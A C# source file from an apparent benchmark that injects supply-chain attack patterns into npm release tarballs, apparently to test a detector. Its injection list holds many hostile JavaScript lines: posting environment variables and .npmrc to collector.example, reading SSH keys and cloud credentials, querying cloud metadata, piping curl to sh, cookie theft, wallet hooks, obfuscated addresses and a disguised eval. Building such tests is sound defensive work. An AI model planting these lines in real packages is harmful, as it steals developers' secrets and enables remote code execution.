using System.Formats.Tar;
using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;

namespace Sluice.Benchmarks;

/// <summary>A file of a release while it is changed.</summary>
internal sealed record ReleaseFile(string Path, byte[] Bytes, int Mode);

/// <summary>Something that happened to releases of others, done to a real release.</summary>
/// <param name="Apply">False where the release has nothing that it can be done to.</param>
internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Apply)
{
    private const int Plain = 0b110_100_100;
    private const int Executable = 0b111_101_101;

    public static IReadOnlyList<Injection> All { get; } =
    [
        new("a source map with sources beside the code", files => !files.Exists(file => file.Path.EndsWith(".map", StringComparison.Ordinal)) && Change(files, IsCode, (file, _) => { files.Add(new ReleaseFile(file.Path + ".map", Map(), Plain)); return file; })),
        new("a source map within the code", files => Change(files, IsCode, (file, _) => Append(file, "\n//# sourceMappingURL=data:application/json;base64," + Convert.ToBase64String(Map()) + "\n"))),
        new("a tree of sources", files => AddMany(files, "package/source-tree/part", ".tsx", 40, "import type { Part } from './part';\nexport const part: Part = { name: 'part' };\n")),
        new("a copy of the whole tree in a folder", files => { files.AddRange(files.ConvertAll(file => file with { Path = "package/copy/" + file.Path })); return true; }),
        new("an install script", files => Manifest(files, json => Object(json, "scripts")["preinstall"] = "node setup.js")),
        new("a second install script", files => Manifest(files, json => Object(json, "scripts")["postinstall"] = "node -e \"0\"") && Manifest(files, json => Object(json, "scripts")["preinstall"] = "node -e \"0\"")),
        new("a new command", files => { files.Add(new ReleaseFile("package/tool.js", "#!/usr/bin/env node\n"u8.ToArray(), Executable)); return Manifest(files, json => json["bin"] = new JsonObject { ["helper-tool"] = "tool.js" }); }),
        new("a command of the package's own name", files => { files.Add(new ReleaseFile("package/tool.js", "#!/usr/bin/env node\n"u8.ToArray(), Executable)); return Manifest(files, json => json["bin"] = "tool.js"); }),
        new("twice the size", files => { files.Add(new ReleaseFile("package/data.txt", Encoding.ASCII.GetBytes(Words((int)Math.Min(60_000_000, Math.Max(30_000, files.Sum(file => (long)file.Bytes.Length) * 12 / 10)))), Plain)); return true; }),
        new("twice the files", files => AddMany(files, "package/extra/item", ".txt", Math.Max(12, files.Count * 12 / 10), "item\n")),
        new("a native library for Linux", files => { files.Add(new ReleaseFile("package/bindings/addon.node", Elf(), Plain)); return true; }),
        new("a program for Windows", files => { files.Add(new ReleaseFile("package/helper.exe", PortableExecutable(), Plain)); return true; }),
        new("a WebAssembly module", files => { files.Add(new ReleaseFile("package/helper.wasm", [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0], Plain)); return true; }),
        new("a new obfuscated file", files => { files.Add(new ReleaseFile("package/router_init.js", Obfuscated(), Plain)); return true; }),
        new("an existing file obfuscated", files => Change(files, IsCode, (file, _) => file with { Bytes = Obfuscated() })),
        new("a readable file minified", files => Change(files, file => IsCode(file) && file.Bytes.Length > 4000 && IsReadable(file), (file, text) => file with { Bytes = Encoding.UTF8.GetBytes(text.Replace("\r", "", StringComparison.Ordinal).Replace('\n', ' ')) })),
        new("network in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch(", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nfetch('https://collector.example/' + process.env.HOME);\n"))),
        new("processes in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "child_process", "exec", "spawn"), (file, _) => Append(file, "\nrequire('child_process').execSync('id');\n"))),
        new("evaluation in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nnew Function(atob('MQ=='))();\n"))),
        new("a network module in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch(", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nrequire('https').get('https://collector.example/');\n"))),
        new("a new address in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('https://collector.example/');\n"))),
        new("a new address in a constant, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nconst collector = 'https://collector.example/';\nfetch(collector);\n"))),
        new("the parts of a new address in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('//collec' + 'tor.example/');\n"))),
        new("a new host in a field, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, "\nrequire('https').get({ hostname: 'collector.example', port: 443 });\n"))),
        new("network under another name in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nconst send = globalThis.fetch;\nsend('https://collector.example/');\n"))),
        new("another file to begin with", files => Begin(files, "boot.js")),
        new("a document to begin with", files => Begin(files, "NOTES.md")),
        new("a new file that sends the environment away", files => { files.Add(new ReleaseFile("package/metrics.js", "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request('https://collector.example/', { method: 'POST' }).end(body);\n"u8.ToArray(), Plain)); return true; }),
        new("a copy of each mail to a stranger", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.notify = (transport, to) => transport.sendMail({ to, bcc: 'copies@quiet-stranger.net' });\n"))),
        new("a module by a name put together", files => Change(files, IsCode, (file, _) => Append(file, "\nrequire('chi' + 'ld_process').exec('id');\n"))),
        new("a fetched script in a shell, in code that starts processes", files => Change(files, IsStarting, (file, _) => Append(file, "\nrequire('child_process').execSync('curl -fsSL ' + process.argv[2] + ' | sh');\n"))),
        new("a shell, in code that starts processes", files => Change(files, IsStarting, (file, _) => Append(file, "\nrequire('child_process').spawn('sh', ['-c', process.argv[2]]);\n"))),
        new("an address in base64, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch(atob('{Hidden()}'), {{ method: 'POST', body: JSON.stringify(process.env) }});\n"))),
        new("an address in reverse, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch('{new string([.. Collector.Reverse()])}'.split('').reverse().join(''));\n"))),
        new("an address in numbers, in code that reaches out", files => Change(files, IsReaching, (file, _) => Append(file, $"\nfetch(String.fromCharCode({string.Join(',', Encoding.ASCII.GetBytes(Collector))}));\n"))),
        new("a module in base64", files => Change(files, IsCode, (file, _) => Append(file, $"\nmodule.require(Buffer.from('{Convert.ToBase64String("child_process"u8)}', 'base64').toString()).exec('id');\n"))),
        new("people's keys are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"))),
        new("npm's credentials are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc');\n"))),
        new("credentials of many sorts are read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.keys = (home, read) => ['.npmrc', '.aws/credentials', '.config/gcloud/x.json', '.netrc'].map((name) => read(home + '/' + name));\n"))),
        new("the account of a cloud is read", files => Change(files, IsReaching, (file, _) => Append(file, "\nfetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');\n"))),
        new("a wallet is hooked", files => Change(files, IsCode, (file, _) => Append(file, "\nif (typeof window !== 'undefined' && window.ethereum) { const ask = window.ethereum.request; window.ethereum.request = (a) => ask(a); }\n"))),
        new("requests of others are hooked", files => Change(files, IsCode, (file, _) => Append(file, "\nXMLHttpRequest.prototype.send = ((send) => function (body) { return send.call(this, body); })(XMLHttpRequest.prototype.send);\n"))),
        new("a fetched script in a shell, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nrequire('child_process').exec('curl -s ' + process.argv[2] + ' | bash');\n"))),
        new("the environment to an address in base64, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, $"\nfetch(atob('{Hidden()}'), {{ method: 'POST', body: JSON.stringify(process.env) }});\n"))),
        new("people's keys are read, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nmodule.exports.keys = () => require('fs').readFileSync(require('os').homedir() + '/.ssh/id_ed25519');\n"))),
        new("npm's credentials to an address, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nfetch('https://collector.example/', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') });\n"))),
        new("a wallet is hooked, where all is known", files => Change(files, IsKnownForAll, (file, _) => Append(file, "\nif (window.ethereum) window.ethereum.request = (a) => a;\n"))),
        new("a table of hidden texts in an existing file", files => Change(files, IsCode, (file, _) => Append(file, "\n" + HiddenTexts.Table))),
        new("a function handed on, in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nmodule.exports.run = (texts) => texts.map(eval);\n"))),
        new("a template that is evaluated, in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nmodule.exports.run = (text) => new Function`return ${text}`();\n"))),
        new("a constructor of functions, in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nmodule.exports.run = (text) => (() => {}).constructor(text)();\n"))),
        new("a file of the release is evaluated, in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval", "Function(", "runIn"), (file, _) => Append(file, "\nmodule.exports.run = () => eval(require('fs').readFileSync(__dirname + '/LICENSE', 'utf8'));\n"))),
        new("a global by a computed name", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.run = (name, value) => globalThis[name](value);\n"))),
        new("a module by a computed name", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.load = (name) => require(name);\n"))),
        new("a script that is put into the page", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.load = (url) => { const s = document.createElement('script'); s.src = url; document.head.appendChild(s); };\n"))),
        new("a script from a new address that is put into the page", files => Change(files, IsCode, (file, _) => Append(file, "\n(function (d) { var s = d.createElement('script'); s.src = 'https://collector.example/m.js'; d.head.appendChild(s); })(document);\n"))),
        new("a picture that takes the cookies along", files => Change(files, IsCode, (file, _) => Append(file, "\nvar i = document.createElement('img'); i.src = '//collector.example/c?' + document.cookie;\n"))),
        new("a thread that runs a text", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.run = (text) => new Worker(URL.createObjectURL(new Blob([text])));\n"))),
        new("processes of another runtime, in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "child_process", "exec", "spawn"), (file, _) => Append(file, "\nmodule.exports.run = (words) => Bun.spawn(words);\n"))),
        new("a wallet is hooked by its own name", files => Change(files, IsCode, (file, _) => Append(file, "\nif (typeof ethereum !== 'undefined') ethereum.request = (a) => a;\n"))),
        new("what is copied is read", files => Change(files, IsCode, (file, _) => Append(file, "\nmodule.exports.take = () => navigator.clipboard.readText();\n"))),
        new("a native library that begins to reach for networks and processes", files => Change(files, file => file.Path.EndsWith(".node", StringComparison.Ordinal) || file.Path.EndsWith(".so", StringComparison.Ordinal), (file, _) => file with { Bytes = ImportingLibrary.Of("getaddrinfo", "connect", "execve") })),
        new("a dependency from an address", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "https://cdn.example/helper-lib.tgz")),
        new("a dependency from a repository", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "git+https://git.example/helper-lib.git")),
        new("a publisher that nobody knows", files => Manifest(files, json => json["author"] = "Quiet Stranger <q@stranger.example>")),
        new("code under the name of a picture", files => { files.Add(new ReleaseFile("package/logo.png", "eval(require('fs').readFileSync(0,'utf8'))\n"u8.ToArray(), Plain)); return true; }),
        new("a program under the name of a text", files => Change(files, file => file.Path.EndsWith(".md", StringComparison.OrdinalIgnoreCase), (file, _) => file with { Bytes = Elf() })),
        new("an archive", files => { files.Add(new ReleaseFile("package/backup.zip", Zip(), Plain)); return true; }),
        new("an environment file", files => { files.Add(new ReleaseFile("package/.env.production", "MODE=production\n"u8.ToArray(), Plain)); return true; }),
    ];

    private const string Collector = "https://collector.example/";

    /// <returns>The changed release; null where it cannot be done.</returns>
    public byte[]? To(string file)
    {
        var files = ReadFiles(file);
        return Apply(files) ? Pack(files) : null;
    }

    private static List<ReleaseFile> ReadFiles(string file)
    {
        using var gzip = new GZipStream(File.OpenRead(file), CompressionMode.Decompress);
        using var tar = new TarReader(gzip);
        var files = new List<ReleaseFile>();
        while (tar.GetNextEntry(copyData: true) is { } entry)
        {
            using var content = new MemoryStream();
            entry.DataStream?.CopyTo(content);
            if (entry.EntryType is TarEntryType.RegularFile or TarEntryType.V7RegularFile)
                files.Add(new ReleaseFile(entry.Name, content.ToArray(), (int)entry.Mode));
        }

        return files;
    }

    private static byte[] Pack(List<ReleaseFile> files)
    {
        using var output = new MemoryStream();
        using (var gzip = new GZipStream(output, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip, TarEntryFormat.Pax))
        {
            foreach (var file in files)
                tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, file.Path) { DataStream = new MemoryStream(file.Bytes), Mode = (UnixFileMode)file.Mode });
        }

        return output.ToArray();
    }

    /// <summary>Changes the first file that fits.</summary>
    private static bool Change(List<ReleaseFile> files, Predicate<ReleaseFile> fits, Func<ReleaseFile, string, ReleaseFile> change)
    {
        var at = files.FindIndex(fits);
        if (at >= 0)
            files[at] = change(files[at], Encoding.UTF8.GetString(files[at].Bytes));
        return at >= 0;
    }

    private static bool IsCode(ReleaseFile file) => (file.Path.EndsWith(".js", StringComparison.Ordinal) || file.Path.EndsWith(".cjs", StringComparison.Ordinal) || file.Path.EndsWith(".mjs", StringComparison.Ordinal)) && file.Bytes.Length > 2000 && !IsAside(file.Path);

    private static bool IsReaching(ReleaseFile file) => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request(");

    private static bool IsStarting(ReleaseFile file) => IsCode(file) && Has(file, "child_process") && Has(file, "spawn", "exec(", "execSync(");

    /// <summary>Bundled programs above all: no capability is news in them.</summary>
    private static bool IsKnownForAll(ReleaseFile file) => IsReaching(file) && IsStarting(file) && Has(file, "process.env");

    private static string Hidden() => Convert.ToBase64String(Encoding.ASCII.GetBytes(Collector));

    /// <summary>What tests and examples reach for is another matter.</summary>
    private static bool IsAside(string path) => Array.Exists(["/test/", "/tests/", "/__tests__/", "/spec/", "/fixtures/", "/examples/", "/example/", "/benchmark/", "/benchmarks/", "/build/"], folder => path.Contains(folder, StringComparison.Ordinal)) || path.Contains(".test.", StringComparison.Ordinal);

    private static bool IsReadable(ReleaseFile file) => file.Bytes.Length / (file.Bytes.Count(c => c == '\n') + 1) < 100;

    private static bool Has(ReleaseFile file, params string[] words) => Array.Exists(words, word => file.Bytes.AsSpan().IndexOf(Encoding.ASCII.GetBytes(word)) >= 0);

    private static ReleaseFile Append(ReleaseFile file, string text) => file with { Bytes = [.. file.Bytes, .. Encoding.UTF8.GetBytes(text)] };

    private static bool AddMany(List<ReleaseFile> files, string path, string extension, int count, string text)
    {
        var letters = Enumerable.Range(0, count).Select(i => $"{(char)('a' + (i / 676 % 26))}{(char)('a' + (i / 26 % 26))}{(char)('a' + (i % 26))}");
        files.AddRange(letters.Select(name => new ReleaseFile($"{path}-{name}{extension}", Encoding.UTF8.GetBytes(text), Plain)));
        return true;
    }

    private static bool Manifest(List<ReleaseFile> files, Action<JsonObject> change) => Change(files, file => file.Path.EndsWith("/package.json", StringComparison.Ordinal) && file.Path.Count(c => c == '/') == 1, (file, text) =>
    {
        var json = JsonNode.Parse(text)!.AsObject();
        change(json);
        return file with { Bytes = Encoding.UTF8.GetBytes(json.ToJsonString()) };
    });

    private static bool Begin(List<ReleaseFile> files, string name) =>
        Manifest(files, json =>
        {
            var main = json["main"]?.GetValue<string>() ?? "index.js";
            files.Add(new ReleaseFile("package/" + name, Encoding.UTF8.GetBytes($"module.exports = require('./{main.TrimStart('.', '/')}');\n"), Plain));
            json["main"] = name;
        });

    private static JsonObject Object(JsonObject json, string name)
    {
        if (json[name] is not JsonObject)
            json[name] = new JsonObject();
        return json[name]!.AsObject();
    }

    private static byte[] Map() => Encoding.UTF8.GetBytes("""{"version":3,"sources":["../src/main.ts"],"sourcesContent":["export const main = () => 1;\n"],"names":[],"mappings":"AAAA"}""");

    private static byte[] Obfuscated()
    {
        var random = new Random(5);
        var text = new StringBuilder("var _0x1a2b=['\\x6c\\x6f\\x67'];");
        for (var i = 0; i < 400; i++)
            text.Append(System.Globalization.CultureInfo.InvariantCulture, $"var _0x{random.Next(0x100000, 0xffffff):x}=_0x1a2b[{i % 7}]^0x{random.Next(255):x};");
        return Encoding.ASCII.GetBytes(text.ToString());
    }

    private static string Words(int length)
    {
        var random = new Random(7);
        var text = new StringBuilder(length + 16);
        while (text.Length < length)
            text.Append((char)('a' + random.Next(26))).Append((char)('a' + random.Next(26))).Append((char)('a' + random.Next(26))).Append(random.Next(12) == 0 ? '\n' : ' ');
        return text.ToString();
    }

    private static byte[] Elf()
    {
        var bytes = new byte[4096];
        ((ReadOnlySpan<byte>)[0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]).CopyTo(bytes);
        (bytes[16], bytes[18], bytes[20]) = (3, 62, 1);
        return bytes;
    }

    private static byte[] PortableExecutable()
    {
        var bytes = new byte[4096];
        "MZ"u8.CopyTo(bytes);
        bytes[0x3c] = 0x80;
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        (bytes[0x84], bytes[0x85]) = (0x64, 0x86);
        return bytes;
    }

    private static byte[] Zip()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var writer = new StreamWriter(zip.CreateEntry("notes.txt").Open());
            writer.Write("notes\n");
        }

        return output.ToArray();
    }
}
